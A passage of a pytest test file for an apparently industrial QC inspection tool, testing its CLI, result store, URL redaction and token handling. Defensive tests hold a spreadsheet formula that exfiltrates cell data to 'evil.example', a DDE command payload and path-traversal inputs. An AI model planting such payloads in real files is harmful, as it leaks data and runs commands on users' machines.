    # a date in ISO 8601's basic form (20251205) was read as epoch seconds, 1970-08-23
    import datetime as dt

    assert parse_time("20251205", "since") == dt.datetime(2025, 12, 5, tzinfo=dt.UTC).timestamp()
    with pytest.raises(ServiceError, match=r"since='2026-12-04T18:00 01:00' is neither .*; a \+ in a "
                                           r"URL's query reads as a space: write it %2B"):
        parse_time("2026-12-04T18:00 01:00", "since")
    db = tmp_path / "line.db"
    with ResultStore(str(db)) as store:
        store.insert_many([_rec("night", created_at=now - 10 * 3600), _rec("shift", created_at=now - 3600)])
    assert main(["results", "list", "--db", str(db), "--since", "8h"]) == 0
    assert [json.loads(x)["part_id"] for x in capsys.readouterr().out.splitlines()] == ["shift"]
    assert main(["results", "list", "--db", str(db), "--until", "120m"]) == 0
    assert [json.loads(x)["part_id"] for x in capsys.readouterr().out.splitlines()] == ["night"]


def test_cli_results_list_prints_the_stored_decisions(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """``diffqc results list``: what `watch` (which has no dashboard) stored, without a server:
    JSON lines or CSV on stdout, filtered as /v1/results is; a --db that does not exist is named
    and not created."""
    import csv
    import json

    from diffqc.cli import main
    from diffqc.service.store import LIST_COLUMNS

    db = tmp_path / "line.db"
    t0 = 1_700_000_000.0
    with ResultStore(str(db)) as store:
        store.insert_many([
            _rec("a1", created_at=t0, line="L1"),
            _rec("a2", "REJECT", created_at=t0 + 3600, line="L1", score=float("nan"),
                 type_scores={"a": 9.5}),
            _rec("b1", "REVIEW", created_at=t0 + 7200, feature_type="b", line="L2"),
        ])
        store.set_review(3, "GOOD", "ann", "a scratch on the fixture, not the part")
    assert main(["results", "list", "--db", str(db)]) == 0
    rows = [json.loads(line, parse_constant=pytest.fail) for line in capsys.readouterr().out.splitlines()]
    assert [r["part_id"] for r in rows] == ["a1", "a2", "b1"]
    assert rows[1]["score"] is None and rows[1]["type_scores"] == {"a": 9.5}
    assert rows[0]["created"] == "2023-11-14T22:13:20.000Z"
    assert main(["results", "list", "--db", str(db), "--since", "2023-11-14T23:13:20Z", "--line", "L1"]) == 0
    assert [json.loads(x)["part_id"] for x in capsys.readouterr().out.splitlines()] == ["a2"]
    assert main(["results", "list", "--db", str(db), "--unreviewed", "--decision", "REVIEW"]) == 0
    out = capsys.readouterr()
    assert out.out == "" and "no stored results match" in out.err
    # a type as the store does not hold it (Edge1 for edge1): the stored ones named, a near miss;
    # a decision or verdict in lower case is read (it was a usage error)
    assert main(["results", "list", "--db", str(db), "--feature-type", "A"]) == 0
    out = capsys.readouterr()
    assert out.out == "" and out.err.strip() == ("diffqc: no stored results match; no part of type 'A' is "
                                                 "stored (did you mean 'a'?): the store holds a, b")
    assert main(["results", "list", "--db", str(db), "--decision", "reject", "--review", "good"]) == 0
    assert capsys.readouterr().err.strip() == "diffqc: no stored results match"
    assert main(["results", "list", "--db", str(db), "--decision", "review", "--review", "good"]) == 0
    assert [json.loads(x)["part_id"] for x in capsys.readouterr().out.splitlines()] == ["b1"]
    assert main(["results", "list", "--db", f"sqlite:///{db}", "--format", "csv", "--review", "GOOD"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(table) == 1 and tuple(table[0]) == LIST_COLUMNS
    assert table[0]["part_id"] == "b1" and table[0]["review_note"] == "a scratch on the fixture, not the part"
    assert table[0]["reviewer"] == "ann" and table[0]["decision"] == "REVIEW"
    assert main(["results", "list", "--db", str(tmp_path / "typo.db")]) == 1
    assert "typo.db does not exist" in capsys.readouterr().err and not (tmp_path / "typo.db").exists()
    # without --db: $DIFFQC_DB, as serve and watch (and results export) take it
    monkeypatch.setenv("DIFFQC_DB", str(db))
    assert main(["results", "list", "--format", "csv"]) == 0
    assert len(capsys.readouterr().out.strip().splitlines()) == 1 + 3
    assert main(["results", "export", str(tmp_path / "reviewed")]) == 0  # it read a fixed name
    assert json.loads(capsys.readouterr().out.splitlines()[-1])["missing_image"] == 1
    # blank (a compose file's `DIFFQC_DB: " "`) is unset, as an empty one is: it named a store
    # " " in the working folder, a file whose name no listing shows
    from diffqc.service.store import store_url

    monkeypatch.setenv("DIFFQC_DB", " ")
    assert store_url(None) == "diffqc-results.db"


def test_cli_says_a_period_time_without_zone_is_utc_where_the_machine_is_not(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """`results summary --since 2026-12-04T06:00` on a line PC in Germany: the shift's start in
    its clock, read as UTC (as the API reads it), an hour off without a word ("no stored
    results in this period" for the last half hour's parts). Said, with how to write either;
    not where the machine's clock is UTC or the time has its zone; a period starting in the
    future is said too."""
    import time

    from diffqc.cli import main

    db = tmp_path / "line.db"
    with ResultStore(str(db)) as store:
        store.insert_many([_rec("a1", created_at=1_700_000_000.0)])  # 2023-11-14T22:13:20Z
    monkeypatch.setenv("TZ", "XYZ-1")  # UTC+1, a POSIX zone: no tz database needed
    time.tzset()
    try:
        assert main(["results", "summary", "--db", str(db), "--since", "2023-11-14T22:00"]) == 0
        err = capsys.readouterr().err
        assert ("--since 2023-11-14T22:00 has no time zone: read as UTC, 23:00 on this machine's "
                "clock (UTC+01:00); write 2023-11-14T22:00+01:00 for 22:00 here, or 2023-11-14T22:00Z "
                "for UTC") in err, err
        for given in ("2023-11-14T22:00Z", "2023-11-14T22:00+01:00", "8h", "1700000000"):
            assert main(["results", "list", "--db", str(db), "--since", given]) == 0
            assert "time zone" not in capsys.readouterr().err, given
        assert main(["results", "list", "--db", str(db), "--until", "2023-11-15"]) == 0
        assert "--until 2023-11-15 has no time zone" in capsys.readouterr().err
        assert main(["results", "list", "--db", str(db), "--since", "2999-01-01T00:00Z"]) == 0
        assert "--since 2999-01-01T00:00Z lies in the future" in capsys.readouterr().err
        for edge in ("9999-12-31T23:59", "0001-01-01"):  # an hour off leaves the calendar
            assert main(["results", "list", "--db", str(db), "--since", edge]) == 0
            assert "milliseconds" not in capsys.readouterr().err
        assert main(["results", "list", "--db", str(db), "--since", "1700000000000"]) == 1  # milliseconds
        assert ("since=1700000000000 lies past the year 9999 as epoch seconds: milliseconds? give "
                "seconds (1700000000)") in capsys.readouterr().err
        monkeypatch.setenv("TZ", "UTC0")
        time.tzset()
        assert main(["results", "summary", "--db", str(db), "--since", "2023-11-14T22:00"]) == 0
        assert "time zone" not in capsys.readouterr().err
    finally:
        monkeypatch.undo()
        time.tzset()


def _listed(db: Path, capsys: pytest.CaptureFixture[str], *period: str) -> list[str]:
    """The part ids `results list` gives for ``period``, no time zone said."""
    import json

    from diffqc.cli import main

    assert main(["results", "list", "--db", str(db), *period]) == 0
    out = capsys.readouterr()
    assert "time zone" not in out.err, out.err
    return [json.loads(line)["part_id"] for line in out.out.splitlines()]


@pytest.fixture
def utc_plus_3(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """This machine's clock at UTC+3, a POSIX zone (no tz database needed)."""
    monkeypatch.setenv("TZ", "XYZ-3")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_cli_periods_take_today_and_yesterday_on_the_machines_clock(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], utc_plus_3: None) -> None:
    """`results summary --since today` (as journalctl takes it), or `--since 1w`, was refused:
    "since='today' is neither epoch seconds nor ISO 8601 nor a span back from now such as 8h".
    ``today`` and ``yesterday`` are this machine's midnights (a shift report's day on the line's
    clock), ``now`` is now; a span takes weeks (``w``) too."""
    import datetime as dt

    midnight = dt.datetime.combine(dt.date.today(), dt.time()).astimezone().timestamp()
    db = tmp_path / "line.db"
    with ResultStore(str(db)) as store:
        store.insert_many([_rec("before-yesterday", created_at=midnight - 86400 - 60),
                           _rec("yesterday", created_at=midnight - 3600),
                           _rec("today", created_at=midnight),
                           _rec("week", created_at=midnight - 5 * 86400)])

    assert _listed(db, capsys, "--since", "today") == ["today"]
    assert _listed(db, capsys, "--since", "Yesterday", "--until", "today") == ["yesterday"]
    week = ["before-yesterday", "today", "week", "yesterday"]
    assert sorted(_listed(db, capsys, "--until", "now", "--since", "1w")) == week


def test_cli_periods_take_a_shifts_times_on_the_machines_clock(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], utc_plus_3: None) -> None:
    """A shift leader's report of the early shift, `results summary --since 06:00 --until 14:00`,
    was refused ("since='06:00' is neither epoch seconds nor ISO 8601 ..."), the night shift's
    too: the day had to be typed with its zone (`2026-12-06T06:00+01:00`). A time of day is
    today's on this machine's clock, as journalctl takes it, and after `today` or `yesterday`
    that day's; a time no clock shows is refused naming the form."""
    import datetime as dt

    from diffqc.cli import main

    midnight = dt.datetime.combine(dt.date.today(), dt.time()).astimezone().timestamp()
    db = tmp_path / "line.db"
    with ResultStore(str(db)) as store:
        store.insert_many([_rec("evening", created_at=midnight - 3 * 3600),  # yesterday 21:00
                           _rec("late", created_at=midnight - 3600),
                           _rec("night", created_at=midnight + 6 * 3600 - 60),
                           _rec("morning", created_at=midnight + 6 * 3600),
                           _rec("afternoon", created_at=midnight + 14 * 3600 + 30)])

    assert _listed(db, capsys, "--since", "06:00", "--until", "14:00") == ["morning"]
    assert _listed(db, capsys, "--since", "yesterday 22:00", "--until", "6:00") == ["late", "night"]
    assert _listed(db, capsys, "--since", "Today 14:00:30") == ["afternoon"]
    assert _listed(db, capsys, "--since", "yesterday 21:00", "--until", "today 00:00") == ["evening", "late"]
    # the report's period: it was said in UTC alone ("from ... 03:00:00 UTC" for the 06:00 typed)
    assert main(["results", "summary", "--db", str(db), "--since", "06:00", "--until", "14:00"]) == 0
    day = dt.date.today().isoformat()
    assert capsys.readouterr().out.splitlines()[0] == (
        f"parts inspected from {day} 03:00:00 UTC (06:00:00 on this machine's clock, UTC+03:00) to "
        f"{day} 11:00:00 UTC (14:00:00 on this machine's clock, UTC+03:00)")
    assert main(["results", "summary", "--db", str(db), "--since", "today 01:00"]) == 0
    yesterday = (dt.date.today() - dt.timedelta(days=1)).isoformat()
    assert capsys.readouterr().out.splitlines()[0] == (
        f"parts inspected from {yesterday} 22:00:00 UTC ({day} 01:00:00 on this machine's clock, UTC+03:00) "
        "to now")
    for wrong in ("25:00", "06:60", "yesterday 24:00"):
        assert main(["results", "list", "--db", str(db), "--since", wrong]) == 1
        err = capsys.readouterr().err
        assert f"--since {wrong}: no clock shows {wrong.split()[-1]}" in err, err


def test_cli_results_summary_counts_a_periods_decisions_and_verdicts(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A QC engineer's question each shift: per type (or camera, line, ...), how many parts were
    inspected and flagged, and of the flagged ones the operators reviewed, how many were real
    defects (BAD) and how many false alarms (GOOD); and which passed parts were found BAD later
    (escapes). `results list` gave the rows only, to count in a spreadsheet."""
    import csv
    import json

    from diffqc.cli import main

    db = tmp_path / "line.db"
    t0 = 1_700_000_000.0
    rows = ([_rec(f"a{i}", created_at=t0 + i, camera="c1") for i in range(6)]
            + [_rec("a6", "REVIEW", created_at=t0 + 6, camera="c1"),
               _rec("a7", "REVIEW", created_at=t0 + 7, camera="c2"),
               _rec("a8", "REJECT", created_at=t0 + 8, camera="c2"),
               _rec("a9", "REVIEW", created_at=t0 + 9, camera="c2"),
               _rec("a10", NOT_INSPECTED, created_at=t0 + 10, camera="c2", score=None, p_value=None),
               _rec("b0", "PASS", created_at=t0 + 11, feature_type="b", camera="c1"),
               _rec("old", "REJECT", created_at=t0 - 86400, camera="c1")])
    with ResultStore(str(db)) as store:
        ids = {r.part_id: r.id for r in store.insert_many(rows)}
        store.set_review(ids["a6"] or 0, "GOOD")  # a false alarm
        store.set_review(ids["a8"] or 0, "BAD", defect="crack")  # a real defect
        store.set_review(ids["a2"] or 0, "BAD", defect="void")  # passed, found BAD later: an escape
    since = ["--since", str(t0)]
    assert main(["results", "summary", "--db", str(db), *since, "--format", "jsonl"]) == 0
    got = {r["feature_type"]: r for r in map(json.loads, capsys.readouterr().out.splitlines())}
    assert got["a"] == {"feature_type": "a", "inspected": 10, "PASS": 6, "REVIEW": 3, "REJECT": 1,
                        "NOT_INSPECTED": 1, "flagged_share": 0.4, "flagged_reviewed": 2, "flagged_bad": 1,
                        "flagged_good": 1, "review_pending": 2, "passed_found_bad": 1}
    assert got["b"]["inspected"] == 1 and got["b"]["flagged_share"] == 0.0
    assert got["all"]["inspected"] == 11 and got["all"]["flagged_bad"] == 1
    assert main(["results", "summary", "--db", str(db), *since, "--by", "feature_type", "--by", "camera",
                 "--format", "csv"]) == 0
    found = csv.DictReader(io.StringIO(capsys.readouterr().out))
    table = {(r["feature_type"], r["camera"]): r for r in found}
    assert table[("a", "c2")]["REJECT"] == "1" and table[("a", "c2")]["NOT_INSPECTED"] == "1"
    assert table[("a", "c1")]["passed_found_bad"] == "1" and table[("all", "")]["inspected"] == "11"
    assert main(["results", "summary", "--db", str(db), *since]) == 0
    text = capsys.readouterr().out
    assert text.splitlines()[0] == "parts inspected from 2023-11-14 22:13:20 UTC to now"
    assert text.splitlines()[1].split()[:4] == ["feature_type", "inspected", "PASS", "REVIEW"]
    assert text.splitlines()[-1].split()[:2] == ["all", "11"]
    assert main(["results", "summary", "--db", str(db), "--since", str(t0 + 3600)]) == 0
    assert "no stored results" in capsys.readouterr().err
    # a period given the wrong way round (--since 8h --until 9h for the hour before the last
    # eight) is said as such, not as a period without results; a column asked for twice is one
    for command in ("summary", "list", "parts"):
        assert main(["results", command, "--db", str(db), "--since", "8h", "--until", "9h"]) == 0
        assert ("--since 8h is not before --until 9h: the period is empty (--since is its start, "
                "--until its end)") in capsys.readouterr().err, command
    # a night shift's times of day, each today's: what to write, after midnight and before it
    assert main(["results", "summary", "--db", str(db), "--since", "23:59", "--until", "00:01"]) == 0
    said = capsys.readouterr().err
    assert "--since 23:59 is not before --until 00:01" in said
    assert ('across midnight, write --since "yesterday 23:59" --until 00:01 after it, or --since 23:59 '
            "alone before it (to now)") in said
    assert main(["results", "summary", "--db", str(db), *since, "--by", "camera", "--by", "camera",
                 "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines()[0].split(",")[:2] == ["camera", "inspected"]


def test_a_group_named_all_is_not_the_total() -> None:
    """A line, camera or type named ``all`` had the total's key: its counts were added to the
    total twice and its own row was gone. It is a group of its own; the total comes last."""
    from diffqc.service.store import summarize

    rows = summarize([("all", "PASS", None, 1), ("dots", "PASS", None, 2), ("dots", "REJECT", "BAD", 1)], 1)
    assert [(key, g["inspected"], g["REJECT"]) for key, g in rows] == [
        (("all",), 1, 0), (("dots",), 3, 1), (("all",), 4, 1)]


def test_cli_results_summary_of_parts_counts_each_part_once(tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    """A shift's report at the part level (``--parts``): each part counted once, by its verdict
    from its crops (the worst of its types' latest), grouped by its latest crop's line; its
    review as the part's (BAD on any BAD crop); the images without a part id named, not counted;
    a part spans types, so grouping parts by type is refused."""
    import json

    from diffqc.cli import main

    db = tmp_path / "line.db"
    t0 = 1_700_000_000.0
    crops = [_rec("P-1", created_at=t0, feature_type="a", type_known=True, line="L1"),
             _rec("P-1", "REVIEW", created_at=t0 + 1, feature_type="b", type_known=True, line="L1"),
             _rec("P-2", created_at=t0 + 2, feature_type="a", type_known=True, line="L1"),
             _rec("P-2", created_at=t0 + 3, feature_type="b", type_known=True, line="L1"),
             _rec("P-3", "REJECT", created_at=t0 + 4, feature_type="a", type_known=True, line="L2"),
             _rec("P-3", created_at=t0 + 5, feature_type="b", type_known=True, line="L2")]
    with ResultStore(str(db)) as store:
        ids = [r.id for r in store.insert_many(crops)]
        store.insert(ResultRecord(created_at=t0 + 6, source="http", decision="REJECT", line="L2"))
        store.set_review(ids[4] or 0, "BAD", defect="crack")
    since = ["--since", str(t0)]
    assert main(["results", "summary", "--db", str(db), *since, "--parts", "--by", "line",
                 "--format", "jsonl"]) == 0
    out = capsys.readouterr()
    got = {r["line"]: r for r in map(json.loads, out.out.splitlines())}
    assert {k: got["L1"][k] for k in ("inspected", "PASS", "REVIEW", "REJECT", "flagged_share",
                                      "review_pending")} == {
        "inspected": 2, "PASS": 1, "REVIEW": 1, "REJECT": 0, "flagged_share": 0.5, "review_pending": 1}
    assert (got["L2"]["REJECT"], got["L2"]["flagged_bad"]) == (1, 1)
    assert got["all"]["inspected"] == 3
    assert "1 stored image without a part id, in no part: not counted" in out.err
    assert main(["results", "summary", "--db", str(db), *since, "--parts"]) == 0  # by line
    text = capsys.readouterr().out.splitlines()
    assert text[0] == "parts, each judged from its crops, inspected from 2023-11-14 22:13:20 UTC to now"
    assert text[1].split()[:2] == ["line", "inspected"] and text[-1].split()[:2] == ["all", "3"]
    assert main(["results", "summary", "--db", str(db), "--parts", "--by", "feature_type"]) == 1
    assert "a part spans feature types" in capsys.readouterr().err


def test_a_part_across_a_shifts_end_is_counted_once_in_the_shift_of_its_latest_crop(tmp_path: Path) -> None:
    """A part whose crops fall either side of a shift's end was counted in both shifts, each time
    by the crops in it: PASS in the first (its REJECT crop not yet in), REJECT in the second, two
    parts where there was one. It is counted once, whole, in the shift of its latest crop; a part
    id used again in a later shift (a camera's counter wrapped) is counted in each."""
    from diffqc.service.parts import part_summary_counts

    end = 1_700_000_000.0  # the first shift's end, the second's start
    crops = [_rec("P-1", created_at=end - 1, feature_type="a", type_known=True),
             _rec("P-1", "REJECT", created_at=end + 1, feature_type="b", type_known=True),
             _rec("P-2", created_at=end - 100, feature_type="a", type_known=True),  # ended in shift 1
             _rec("P-2", created_at=end + 3600, feature_type="a", type_known=True)]  # another P-2, later
    with ResultStore(str(tmp_path / "line.db")) as store:
        store.insert_many(crops)
        first, _ = part_summary_counts(store, ["line"], end - 8 * 3600, end, window_s=60)
        second, _ = part_summary_counts(store, ["line"], end, end + 8 * 3600, window_s=60)
    assert sorted((d, n) for *_, d, _, n in first) == [("PASS", 1)]  # P-2 alone
    assert sorted((d, n) for *_, d, _, n in second) == [("PASS", 1), ("REJECT", 1)]  # P-1 whole, P-2 again


def test_cli_results_list_csv_keeps_a_spreadsheet_from_running_what_a_client_sent(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The CSV is a shift's report for a spreadsheet, and part ids, lines and review notes come
    from clients and operators: a text cell that a spreadsheet would run as a formula (=, +, -,
    @; OWASP's CSV injection) is written with a leading apostrophe, shown as typed. Numbers and
    the JSON lines are as stored."""
    import csv
    import json

    from diffqc.cli import main

    db = tmp_path / "line.db"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    with ResultStore(str(db)) as store:
        store.insert_many([_rec(formula, "REVIEW", line="@SUM(1)", score=-1.5)])
        store.set_review(1, "BAD", "-ann", "+cmd|' /C calc'!A0")
    assert main(["results", "list", "--db", str(db), "--format", "csv"]) == 0
    (row,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["part_id"] == "'" + formula and row["line"] == "'@SUM(1)"
    assert row["reviewer"] == "'-ann" and row["review_note"] == "'+cmd|' /C calc'!A0"
    assert float(row["score"]) == -1.5 and row["decision"] == "REVIEW"
    assert main(["results", "list", "--db", str(db)]) == 0
    (record,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert record["part_id"] == formula and record["reviewer"] == "-ann"


def test_cli_results_export_of_nothing_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """No part reviewed GOOD yet: the export is an empty dataset (exit 0, as `results list`
    with no match), and stderr says so and what fills it; a `train` on it failed later with
    "no images found"."""
    import json

    from diffqc.cli import main

    db = tmp_path / "line.db"
    with ResultStore(str(db)) as store:
        store.insert_many([_rec("a1", "REVIEW"), _rec("a2", "PASS")])
    assert main(["results", "export", "--db", str(db), str(tmp_path / "out")]) == 0
    out = capsys.readouterr()
    assert json.loads(out.out.splitlines()[-1])["exported"] == 0
    assert "no part reviewed GOOD" in out.err and "review" in out.err


def test_store_urls(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                    capsys: pytest.CaptureFixture[str]) -> None:
    assert sqlite_path("sqlite:////abs/x.db") == Path("/abs/x.db")
    assert sqlite_path("rel/x.db") == Path("rel/x.db")
    # three slashes are a relative path (as SQLAlchemy reads them): `sqlite:///srv/qc/r.db`,
    # meant as /srv/qc/r.db, made srv/qc/ under the folder serve was started in, a store that
    # `results list --db /srv/qc/r.db` then did not find; where the relative folder is not there
    # and the absolute one is, it is refused, naming the URL meant
    from diffqc.cli import main
    from diffqc.errors import StoreError

    monkeypatch.chdir(tmp_path)
    absolute = tmp_path.parent / f"{tmp_path.name}-line" / "r.db"  # beside tmp_path, its own
    absolute.parent.mkdir()
    url = f"sqlite://{absolute}"  # sqlite:///tmp/.../line/r.db: relative
    with pytest.raises(StoreError, match=rf"is the relative path {str(absolute)[1:]} .* write "
                                         rf"sqlite:///{absolute}, or the path alone"):
        sqlite_path(url)
    assert not (tmp_path / str(absolute)[1:]).parent.exists()
    assert main(["results", "list", "--db", url]) == 1
    assert f"is the relative path {str(absolute)[1:]}" in capsys.readouterr().err
    (tmp_path / "rel").mkdir()
    assert sqlite_path("sqlite:///rel/x.db") == Path("rel/x.db")  # a relative folder that is here
    assert sqlite_path("sqlite:///x.db") == Path("x.db")
    # a libpq connection string (key=value, as psql and a DBA's notes give it) was taken for a
    # SQLite file's name: serve made a file "host=db port=5432 ..." and stored the line's parts in it
    with pytest.raises(StoreError, match=r"a libpq connection string \(key=value\), which diffqc takes "
                                         r"as a URL: postgresql://qc:\*\*\*@db:5433/plant\?sslmode=require"):
        sqlite_path("host=db port=5433 user=qc password=secret dbname=plant sslmode=require")
    with pytest.raises(StoreError, match=r"as a URL: postgresql://db/plant$"):
        sqlite_path("dbname=plant host=db")
    assert sqlite_path("run=3.db") == Path("run=3.db")  # a file name with '=' in it stays one
    # a URL with a slash missing made a SQLite store of that name (folders "postgresql:/h:5432/")
    for typo in ("postgresql:/127.0.0.1:5432/plant", "sqlite:/x.db", "sqlite:x.db", "Postgres:h/db",
                 "postgresql:/qc:secret@db/plant"):
        with pytest.raises(StoreError, match=r"'.*' is not a URL: write postgresql://user@host/db or "
                                             r"sqlite:///path/to/results.db") as info:
            sqlite_path(typo)
        assert "secret" not in str(info.value)
    # SQLAlchemy's driver suffix, as a Python application's settings hold the URL
    with pytest.raises(StoreError, match=r"SQLAlchemy's postgresql\+psycopg: libpq takes it as "
                                         r"postgresql://qc:\*\*\*@db/plant"):
        sqlite_path("postgresql+psycopg://qc:secret@db/plant")
    assert redact_url("postgresql://u:secret@h:5432/db") == "postgresql://u:***@h:5432/db"
    assert redact_url("postgresql://u@h/db") == "postgresql://u@h/db"
    # libpq takes the password as a parameter too: it was shown in /v1/model and the errors
    assert redact_url("postgresql://u@h/db?sslmode=require&password=secret") == \
        "postgresql://u@h/db?sslmode=require&password=***"
    assert redact_url("postgresql://h/db?PASSWORD=s%26x&user=u") == "postgresql://h/db?PASSWORD=***&user=u"
    # and the passphrase of an encrypted client key (libpq's sslpassword): it was shown in full
    assert redact_url("postgresql://u@h/db?sslkey=k.pem&sslpassword=secret") == \
        "postgresql://u@h/db?sslkey=k.pem&sslpassword=***"
    # a URL refused for its form is shown in the error: its password was, when the slashes were
    # lost or the scheme left out; a path with '@' in it is no URL's user
    assert redact_url("postgresql:/qc:secret@db/plant") == "postgresql:/qc:***@db/plant"
    assert redact_url("qc:secret@broker:1883") == "qc:***@broker:1883"
    assert redact_url("/data/a:b@c/r.db") == "/data/a:b@c/r.db"
    assert redact_url("mqtt://broker/line@1") == "mqtt://broker/line@1"


@pytest.mark.parametrize(("url", "told"), [
    ("postgresql://qc:p@ss#1@127.0.0.1:1/plant", "'@' in the URL's user or password: write it %40"),
    ("postgresql://qc:p/ss@127.0.0.1:1/plant", "'/' in the URL's user or password: write it %2F"),
    ("postgresql://qc:pa ss@127.0.0.1:1/plant", "a space in the URL: write it %20"),
])
def test_a_postgresql_password_a_url_must_encode_is_named_without_showing_it(url: str, told: str) -> None:
    """A password pasted into the URL as the DBA made it (``p@ss#1``): libpq read the text after
    its ``@`` as the host, and its error showed that part of the password (``failed to resolve
    host 'ss#1@127.0.0.1'``), in the log; a ``/`` made the user and password the host and port
    (``failed to resolve host 'qc'``); a space was quoted with the password around it. Each is
    named, with how to write it, before any connection, and no part of the password is shown."""
    from diffqc.errors import StoreError

    with pytest.raises(StoreError) as info:
        ResultStore(url)
    assert told in str(info.value) and "PGPASSWORD" in str(info.value), str(info.value)
    assert not any(piece in str(info.value) for piece in ("ss#1", "p/ss", "pa ss", "ss@")), str(info.value)


def test_a_postgresql_url_libpq_cannot_read_says_why_when_it_shows_no_password() -> None:
    """A misspelled option in a PostgreSQL URL (``?sslmod=require``): the error said only "libpq
    cannot read it; or leave the password out of the URL", of a URL holding no password, so the
    user looked for a fault in a password. libpq's reason is now given where it quotes nothing
    of the user and password (``invalid URI query parameter: "sslmod"``), and the password hint
    only where the URL holds one."""
    from diffqc.errors import StoreError

    with pytest.raises(StoreError) as info:
        ResultStore("postgresql://qc@127.0.0.1:1/plant?sslmod=require")
    assert str(info.value).endswith('libpq cannot read it: invalid URI query parameter: "sslmod"'), info.value
    with pytest.raises(StoreError) as info:  # the fault in the password: not quoted
        ResultStore("postgresql://qc:p%zz9@127.0.0.1:1/plant")
    said = str(info.value)
    assert "libpq cannot read it; or leave the password out" in said and "zz9" not in said


def test_artifact_store_writes_atomically_and_never_leaves_its_folder(tmp_path: Path) -> None:
    art = ArtifactStore(tmp_path)
    name = art.save_png("heatmaps", np.zeros((9, 7, 3), np.uint8))
    path = art.path("heatmaps", name)
    assert path is not None and Image.open(path).size == (7, 9)
    leftover = tmp_path / "heatmaps" / ("ab" * 16 + ".png.tmp")
    leftover.write_bytes(b"x")
    os.utime(leftover, (time.time() - 2 * 3600,) * 2)  # left by a crash hours ago
    foreign = tmp_path / "heatmaps" / "operator-notes.tmp"
    foreign.write_bytes(b"mine")
    ArtifactStore(tmp_path)  # a restart removes half-written files it wrote, nothing else
    assert not leftover.exists()
    assert foreign.read_bytes() == b"mine"
    (tmp_path / "secret.png").write_bytes(b"s")
    for bad in ["../secret.png", "/etc/passwd", "..", "", name + "/..", "a" * 32 + ".png/../x"]:
        assert art.path("heatmaps", bad) is None
    assert art.path("../heatmaps", name) is None
    with pytest.raises(ValueError):
        art.save_bytes("../x", b"", "png")


def test_a_second_service_on_the_data_folder_leaves_the_running_ones_files_being_written(
        tmp_path: Path) -> None:
    """A second `serve` or `watch` started on the data folder of a running one removed every
    half-written file there, the running one's too: the heat map or image it was writing at that
    moment was lost, its record saying "kept image not written". A start removes only the
    half-written files too old for any writer to hold (an hour: a crash's)."""
    running = ArtifactStore(tmp_path)
    being_written = tmp_path / "images" / ("cd" * 16 + ".png.tmp")  # as running's write names it
    being_written.write_bytes(b"half of an image")
    crashed = tmp_path / "heatmaps" / ("ef" * 16 + ".png.tmp")
    crashed.write_bytes(b"x")
    os.utime(crashed, (time.time() - 2 * 3600,) * 2)
    ArtifactStore(tmp_path)  # the second service starts
    assert being_written.read_bytes() == b"half of an image"
    assert not crashed.exists()
    assert running.path("images", running.save_bytes("images", b"a whole image", "png")) is not None


# ----------------------------------------------------------------------------- security
def test_tokens(monkeypatch: pytest.MonkeyPatch) -> None:
    assert parse_tokens(" a, b ,,c") == ("a", "b", "c")
    assert parse_tokens(["a,b", "c"]) == ("a", "b", "c")
    monkeypatch.setenv("DIFFQC_TOKEN", "env1,env2")
    assert tokens_from_env(None) == ("env1", "env2")
    assert tokens_from_env("cli") == ("cli",)
    assert bearer_token("Bearer abc") == "abc" and bearer_token("bearer  abc ") == "abc"
    assert bearer_token("Basic abc") is None and bearer_token("Bearer ") is None
    assert bearer_token(None) is None
    assert token_matches("b", ["a", "b"]) and not token_matches("c", ["a", "b"])
    assert not token_matches(None, ["a"]) and not token_matches("", ["a"])
    assert not token_matches("a", [])
    assert token_matches("ünïcode", ["ünïcode"])


def test_a_key_of_another_kind_than_the_certificates_is_said_as_not_its_key(tmp_path: Path) -> None:
    """An ECDSA key given with an RSA certificate (two files of a renewal mixed up) was said to
    hold "no PEM private key", of a file that holds one; it is not the certificate's key."""
    import trustme

    from diffqc.service.security import check_tls

    rsa = trustme.CA().issue_cert("localhost", key_type=trustme.KeyType.RSA)
    ecdsa = trustme.CA(key_type=trustme.KeyType.ECDSA).issue_cert("localhost", key_type=trustme.KeyType.ECDSA)
    rsa.cert_chain_pems[0].write_to_path(str(tmp_path / "cert.pem"))
    ecdsa.private_key_pem.write_to_path(str(tmp_path / "key.pem"))
    with pytest.raises(ConfigError, match=r"key\.pem is not the key of .*cert\.pem"):
        check_tls(tmp_path / "cert.pem", tmp_path / "key.pem")


def test_a_host_written_wrong_or_left_empty_is_said_as_it_binds() -> None:
    """``--host "$HOST"`` with HOST unset listens on every interface, as ``0.0.0.0`` does, but
    the service said "only this computer reaches it" and gave no warning of a service without a
    token (the name was looked up without a port, which fails); a mistyped address
    (``192.168..10``) ended in a UnicodeError's traceback, not "cannot listen on"."""
    from diffqc.service.app import listening_sockets
    from diffqc.service.opcua import check_opcua_url
    from diffqc.service.security import reachable_from_others

    assert reachable_from_others("") and reachable_from_others("0.0.0.0")
    assert not reachable_from_others("127.0.0.1") and not reachable_from_others("localhost")
    for typo in ("192.168..10", "a" * 64 + ".example"):
        assert not reachable_from_others(typo)  # binding fails, and says so
        with pytest.raises(ConfigError, match=r"cannot listen on .*:0: "):
            listening_sockets(typo, 0)
        with pytest.raises(ConfigError, match=r"cannot serve OPC UA on .*:4840: "):
            check_opcua_url(f"opc.tcp://{typo}:4840")


def test_tokens_from_a_secret_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A token in the environment or on the command line is read by anyone who may read the
    process's environment or `ps`; Docker and Kubernetes secrets, and systemd's credentials,
